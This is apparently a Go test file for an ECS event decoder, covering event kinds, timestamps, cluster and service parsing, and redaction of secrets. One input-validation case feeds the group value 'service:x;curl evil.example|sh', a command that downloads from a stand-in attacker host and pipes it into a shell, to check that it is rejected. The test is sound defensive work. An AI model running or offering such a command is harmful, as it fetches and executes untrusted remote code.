package ecsevent

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/ecswhy/ecswhy/internal/incident"
	"github.com/ecswhy/ecswhy/internal/recorded"
)

// recordedEvent reads an event of testdata/events.
func recordedEvent(t *testing.T, name string) []byte {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join("..", "..", "testdata", "events", name, "event.json"))
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestKindFollowsTheNameOfTheEvent(t *testing.T) {
	for name, want := range map[string]incident.Kind{
		"aws-sample-deployment-failed":         incident.DeploymentFailed,
		"aws-sample-deployment-in-progress":    incident.DeploymentInProgress,
		"aws-sample-deployment-rolling-back":   incident.DeploymentRollingBack,
		"aws-sample-deployment-completed":      incident.DeploymentCompleted,
		"aws-sample-placement-failed-ec2-cpu":  incident.PlacementFailed,
		"aws-sample-service-steady":            incident.ServiceSteady,
		"aws-sample-hook-awaiting-action":      incident.HookAwaitingAction,
		"hook-failed":                          incident.HookFailed,
		"hook-timed-out":                       incident.HookFailed,
		"aws-sample-instance-agent-impaired":   incident.InstanceImpaired,
		"aws-sample-instance-runtime-ok":       incident.InstanceChanged,
		"aws-sample-instance-state":            incident.InstanceChanged,
		"aws-sample-daemon-task-failed-to-run": incident.DaemonFailingToStart,
		"aws-sample-daemon-deployment-pending": incident.DaemonDeploymentChanged,
		"standalone-task-failed":               incident.TaskStopped,
		"unknown-event-name":                   incident.Unrecognized,
		"unknown-detail-type":                  incident.Unrecognized,
		"unreadable":                           incident.Unreadable,
		"not-an-event":                         incident.Unreadable,
	} {
		if got := Decode(recordedEvent(t, name)).Kind; got != want {
			t.Errorf("%s is %s, want %s", name, got, want)
		}
	}
}

// Only a lookup tells that a deployment rolled back or recovered, or that a service is up again.
func TestEveryKindIsThatOfSomeEvent(t *testing.T) {
	constants, err := os.ReadFile("../incident/incident.go")
	if err != nil {
		t.Fatal(err)
	}
	var decided strings.Builder
	for _, file := range []string{"kind.go", "ecsevent.go"} {
		source, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		decided.Write(source)
	}
	byLookUp := []string{"DeploymentRolledBack", "DeploymentRecovered", "ServiceUpAgain"}
	kinds := regexp.MustCompile(`(?m)^\t(\w+) +Kind = "`).FindAllSubmatch(constants, -1)
	if len(kinds) == 0 {
		t.Fatal("no kinds")
	}
	for _, kind := range kinds {
		name := string(kind[1])
		isRead := regexp.MustCompile(`\bincident\.` + name + `\b`).MatchString(decided.String())
		if !isRead && !slices.Contains(byLookUp, name) {
			t.Errorf("no event is of the kind %s: add its name or detail type to kind.go", name)
		}
	}
}

// Across Regions an event has the time at which it came from there; a service action's createdAt can be days old.
func TestAnEventThatComesLateTellsWhenItHappened(t *testing.T) {
	for detail, want := range map[string]string{
		`"eventName":"SERVICE_DEPLOYMENT_FAILED","updatedAt":"2026-11-30T01:02:03.5Z"`:                 "01:02:03",
		`"lastStatus":"STOPPED","updatedAt":"2026-11-30T01:02:04Z","stoppedAt":"2026-11-30T01:02:03Z"`: "01:02:04",
		`"eventName":"SERVICE_DEPLOYMENT_FAILED","updatedAt":"2026-11-30T02:00:01Z"`:                   "02:00:00",
		`"eventName":"SERVICE_STEADY_STATE","eventType":"INFO","createdAt":"2026-11-20T00:00:00Z"`:     "02:00:00",
		`"eventName":"SERVICE_DEPLOYMENT_FAILED","updatedAt":"yesterday"`:                              "02:00:00",
	} {
		inc := Decode([]byte(`{"source":"aws.ecs","detail-type":"X","time":"2026-11-30T02:00:00Z","detail":{` + detail + `}}`))
		if got := inc.Time.Format(time.TimeOnly); got != want {
			t.Errorf("%s: %s, want %s", detail, got, want)
		}
	}
}

func TestADeploymentEventNamesItsClusterOnlyInItsResource(t *testing.T) {
	got := Decode(recordedEvent(t, "aws-sample-deployment-failed"))
	want := incident.Incident{
		ID: "ddca6449-b258-46c0-8653-e0e3aEXAMPLE", Kind: incident.DeploymentFailed, Source: "aws.ecs",
		DetailType: "ECS Deployment State Change",
		Name:       "SERVICE_DEPLOYMENT_FAILED", Level: "ERROR", Reason: "ECS deployment circuit breaker: task failed to start.",
		Time: time.Date(2020, 5, 23, 11, 11, 11, 0, time.UTC), Partition: "aws", Region: "us-west-2", Account: "111122223333",
		Resources: []string{"arn:aws:ecs:us-west-2:111122223333:service/default/servicetest"},
		Cluster:   "default", ServiceName: "servicetest", ServiceARN: "arn:aws:ecs:us-west-2:111122223333:service/default/servicetest",
		DeploymentID: "ecs-svc/123",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// The place of an event is read from resources, clusterArn, serviceArn, service names and group, in that order.
func TestWhereItHappened(t *testing.T) {
	const arn = "arn:aws:ecs:us-west-2:111122223333:"
	for name, test := range map[string]struct{ event, cluster, service string }{
		"long service ARN":                    {`"resources":["` + arn + `service/prod/web"],"detail":{}`, "prod", "web"},
		"short service ARN":                   {`"resources":["` + arn + `service/web"],"detail":{}`, "", "web"},
		"short service ARN beside a cluster":  {`"resources":["` + arn + `service/web"],"detail":{"clusterArn":"` + arn + `cluster/prod"}`, "prod", "web"},
		"resource before clusterArn":          {`"resources":["` + arn + `service/prod/web"],"detail":{"clusterArn":"` + arn + `cluster/other"}`, "prod", "web"},
		"no resources":                        {`"resources":[],"detail":{"clusterArn":"` + arn + `cluster/prod","serviceArn":"` + arn + `service/prod/web"}`, "prod", "web"},
		"service deployment":                  {`"resources":["` + arn + `service-deployment/prod/web/0EYSiB0q"],"detail":{}`, "prod", "web"},
		"group of a task":                     {`"resources":["` + arn + `task/prod/0123"],"detail":{"group":"service:web"}`, "prod", "web"},
		"group of a family":                   {`"resources":["` + arn + `task/prod/0123"],"detail":{"group":"family:nightly"}`, "prod", ""},
		"a group that is no name":             {`"detail":{"group":"service:x;curl evil.example|sh"}`, "", ""},
		"a family that begins like a service": {`"detail":{"group":"service"}`, "", ""},
		"service name of UpdateService":       {`"detail":{"service":"web"}`, "", "web"},
		"service name of CreateService":       {`"detail":{"serviceName":"web"}`, "", "web"},
		"service given as ARN":                {`"detail":{"service":"` + arn + `service/prod/web"}`, "prod", "web"},
		"a resource that is no ECS ARN":       {`"resources":["arn:aws:s3:::bucket","web"],"detail":{"serviceName":"web"}`, "", "web"},
		"resources of an unexpected type":     {`"resources":"web","detail":{"serviceName":"web"}`, "", "web"},
		"detail of an unexpected type":        {`"resources":["` + arn + `service/prod/web"],"detail":"text"`, "prod", "web"},
	} {
		got := Decode([]byte(`{"detail-type":"ECS Service Action","source":"aws.ecs",` + test.event + `}`))
		if got.Cluster != test.cluster || got.ServiceName != test.service {
			t.Errorf("%s: cluster %q, service %q, want %q, %q (%+v)", name, got.Cluster, got.ServiceName, test.cluster,
				test.service, got)
		}
	}
}

func TestATaskIsDecodedWithItsContainers(t *testing.T) {
	got := Decode(recordedEvent(t, "aws-sample-task-stopped-by-user")).Tasks
	want := []incident.Task{{
		ARN:              "arn:aws:ecs:eu-west-1:0123456789:task/Features/33a7f27282624543abd4a00c3e84d0ee",
		DefinitionARN:    "arn:aws:ecs:eu-west-1:0123456789:task-definition/webapp:15",
		Group:            "service:Webapp",
		StartedBy:        "ecs-svc/5888882704497679006",
		LaunchType:       "EC2",
		CapacityProvider: "FeaturesASG", Zone: "eu-west-1a",
		InstanceARN:   "arn:aws:ecs:eu-west-1:0123456789:container-instance/Features/0c304770a74540689f5bf39622b3d781",
		LastStatus:    "STOPPED",
		DesiredStatus: "STOPPED",
		StopCode:      "UserInitiated",
		StoppedReason: "Task stopped by user",
		CreatedAt:     time.Date(2020, 6, 2, 9, 15, 42, 131e6, time.UTC),
		StartedAt:     time.Date(2020, 6, 2, 9, 16, 17, 544e6, time.UTC),
		StoppedAt:     time.Date(2020, 6, 5, 12, 17, 11, 696e6, time.UTC),
		Containers: []incident.Container{{
			Name:        "Webapp",
			Image:       "0123456789.dkr.ecr.eu-west-1.amazonaws.com/webapp:d1a3f22",
			ImageDigest: "sha256:48b2652a7a9a104300046dc3be4aba5e3e19a2ead82a593f63846739a7429230",
			RuntimeID:   "8a78a445b4e66ee0f2c7624d9b52af4e3685039444a44999d884e1af2283e804",
			LastStatus:  "STOPPED",
			Exited:      true,
		}},
		Attachments: []incident.Attachment{{Type: "sdi", Status: "DELETED"}},
	}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestDetailsOfHooksInstancesAndDaemons(t *testing.T) {
	hook := Decode(recordedEvent(t, "aws-sample-hook-awaiting-action"))
	if hook.Hook.Stage != "POST_TEST_TRAFFIC_SHIFT" || hook.Hook.ExpiresAt.IsZero() || hook.Cluster != "my-cluster" ||
		hook.ServiceName != "my-service" {
		t.Errorf("hook: %+v", hook)
	}
	instance := Decode(recordedEvent(t, "aws-sample-instance-agent-impaired")).Instance
	if diff := cmp.Diff([]incident.HealthCheck{{Type: "AGENT_CONNECTIVITY", Status: "IMPAIRED",
		Reason: "Agent disconnected since 2026-07-29T22:34:13Z"}}, instance.Checks); diff != "" {
		t.Error(diff)
	}
	if instance.EC2ID != "i-0abcdef1234567890" || instance.Status != "IMPAIRED" {
		t.Errorf("instance: %+v", instance)
	}
	daemon := Decode(recordedEvent(t, "aws-sample-daemon-task-creation-failed"))
	if daemon.Daemon.Name != "my-daemon" || daemon.Daemon.FailureType != "TASK_CREATION_FAILED" ||
		daemon.Level != "WARNING" || daemon.Cluster != "my-cluster" {
		t.Errorf("daemon: %+v", daemon)
	}
	provider := Decode([]byte(`{"source":"aws.ecs","detail":{"capacityProviderArns":["arn:aws:ecs:us-west-2:111122223333:capacity-provider/SPOT"]}}`))
	if provider.Instance.CapacityProvider != "SPOT" {
		t.Errorf("capacity provider: %+v", provider.Instance)
	}
	volume := Decode([]byte(`{"source":"aws.ecs","detail":{"taskArn":"t","lastStatus":"STOPPED","attachments":[{"type":"ebs","details":[{"name":"statusReason","value":"timed out"}]}]}}`))
	if volume.Tasks[0].Attachments[0].Reason != "timed out" {
		t.Errorf("attachment: %+v", volume.Tasks)
	}
}

func TestTimesHaveUpToNineDigitsOfAFraction(t *testing.T) {
	for text, want := range map[string]time.Time{
		`"2026-03-05T15:54:41Z"`:           time.Date(2026, 3, 5, 15, 54, 41, 0, time.UTC),
		`"2026-03-05T15:54:41.618059641Z"`: time.Date(2026, 3, 5, 15, 54, 41, 618059641, time.UTC),
		`"2026-03-05T15:54:41.19+09:00"`:   time.Date(2026, 3, 5, 6, 54, 41, 190e6, time.UTC),
		`"yesterday"`:                      {},
		`1234567890.5`:                     {},
		`null`:                             {},
	} {
		if got := Decode([]byte(`{"source":"aws.ecs","time":` + text + `}`)).Time; !got.Equal(want) {
			t.Errorf("%s is %s, want %s", text, got, want)
		}
	}
}

func TestTheTimeOfAnEventWithoutOneIsThatOfItsDetail(t *testing.T) {
	if got := Decode([]byte(`{"source":"aws.ecs","detail":{"createdAt":"2026-03-05T15:54:41Z"}}`)).Time; got.IsZero() {
		t.Error("no time")
	}
}

func TestAnEventWithoutIDGetsTheSameOneEachTime(t *testing.T) {
	raw := []byte(`{"source":"aws.ecs","detail":{}}`)
	if a, b := Decode(raw).ID, Decode(raw).ID; a == "" || a != b {
		t.Errorf("%q, then %q", a, b)
	}
}

func TestAnUnreadableEventShowsItsStartAndNoEnvironment(t *testing.T) {
	got := Decode([]byte(`{"detail":{"overrides":{"containerOverrides":[{"environment":[{"name":"A","value":"secret"}]}]}`))
	if got.Kind != incident.Unreadable || got.Raw != `{"detail":{"` {
		t.Errorf("%+v", got)
	}
	if got := Decode([]byte(strings.Repeat("Ⱥ", 40) + ` environment":[{"value":"hunter2"}]`)); strings.Contains(got.Raw,
		"hunter2") {
		t.Errorf("%q shows a value", got.Raw)
	}
	long := Decode([]byte(strings.Repeat("日", 5000)))
	if n := utf8.RuneCountInString(long.Raw); n != 600 || !utf8.ValidString(long.Raw) {
		t.Errorf("%d characters", n)
	}
	if broken := Decode([]byte("\xff\xfe")); !utf8.ValidString(broken.Raw) {
		t.Errorf("%q is not UTF-8", broken.Raw)
	}
}

func TestNoEnvironmentValueIsKept(t *testing.T) {
	files, err := recorded.Files("../../testdata/events", "event.json")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		kept, err := json.Marshal(Decode(raw))
		if err != nil || strings.Contains(string(kept), "canary-do-not-print") {
			t.Errorf("%s: a value of the environment is kept (%v)", file, err)
		}
	}
}

func FuzzDecode(f *testing.F) {
	files, err := recorded.Files("../../testdata/events", "event.json")
	if err != nil {
		f.Fatal(err)
	}
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(raw)
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		inc := Decode(raw)
		if inc.Kind == "" || inc.ID == "" {
			t.Errorf("no kind or id: %+v", inc)
		}
		if !utf8.ValidString(inc.Raw) {
			t.Errorf("raw text is not UTF-8: %q", inc.Raw)
		}
		if inc.Kind == incident.TaskStopped && len(inc.Tasks) != 1 {
			t.Errorf("a stopped task without a task: %+v", inc)
		}
	})
}

func TestSecretsInReasonsAreRedacted(t *testing.T) {
	got := Decode([]byte(`{"source":"aws.ecs","detail":{"taskArn":"t","lastStatus":"STOPPED","stoppedReason":"exec app --password=hunter2","containers":[{"reason":"DB_PASSWORD=hunter2"}]}}`))
	if kept, err := json.Marshal(got); err != nil || strings.Contains(string(kept), "hunter2") {
		t.Errorf("%s, %v", kept, err)
	}
}
